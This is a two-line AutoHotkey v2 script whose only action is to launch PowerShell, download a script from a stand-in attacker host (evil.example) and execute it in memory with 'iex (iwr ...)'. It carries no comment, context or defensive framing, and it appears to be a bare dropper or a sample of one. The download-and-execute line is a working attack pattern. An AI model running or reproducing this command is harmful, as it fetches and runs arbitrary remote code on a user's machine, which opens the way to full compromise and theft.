#Requires AutoHotkey v2.0
Run('powershell -c "iex (iwr https://evil.example/a.ps1)"')
